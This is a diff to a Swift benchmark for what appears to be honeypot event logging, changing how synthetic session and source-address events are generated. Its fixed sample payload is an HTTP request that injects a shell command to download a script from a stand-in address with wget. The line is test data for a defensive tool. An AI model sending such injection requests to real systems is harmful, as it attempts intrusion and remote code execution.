@@ -14,7 +14,7 @@ struct Bench: ParsableCommand {
 
         @Option(name: .long) var data: String = "./data"
         @Option(name: .long) var count: Int = 100_000
-        @Option(name: .long, help: "Distinct source addresses to cycle through (public, so GeoIP runs).") var sources: Int = 50_000
+        @Option(name: .long, help: "Distinct source addresses (public, so GeoIP runs); each comes back for many sessions, as scanners and brute-forcers do.") var sources: Int = 5_000
 
         func run() throws {
             let paths = DataPaths(root: data)
@@ -25,9 +25,13 @@ struct Bench: ParsableCommand {
             }
             let payload = PayloadInfo(captured: Array("GET /shell?cd+/tmp;wget+http://198.51.100.1/x.sh HTTP/1.1\r\nHost: a\r\n\r\n".utf8))
             let start = Date()
+            // Trap sessions as they arrive: connect, payload, close, each session from one of `sources` addresses.
+            var session = SessionID.random()
             for i in 0..<count {
-                var e = Event(kind: i % 3 == 1 ? .payload : (i % 3 == 0 ? .sessionConnect : .sessionClose), honeypot: "trap", session: .random())
-                e.set(Endpoints(srcIP: addresses[i % addresses.count], srcPort: 40_000 + i % 20_000, destIP: "192.0.2.10", destPort: 8080), transport: "tcp")
+                if i % 3 == 0 { session = .random() }
+                let ip = addresses[(i / 3) % addresses.count]
+                var e = Event(kind: i % 3 == 1 ? .payload : (i % 3 == 0 ? .sessionConnect : .sessionClose), honeypot: "trap", session: session)
+                e.set(Endpoints(srcIP: ip, srcPort: 40_000 + (i / 3) % 20_000, destIP: "192.0.2.10", destPort: 8080), transport: "tcp")
                 if e.kind == .payload { e.payload = payload }
                 shipper.emit(e)
             }
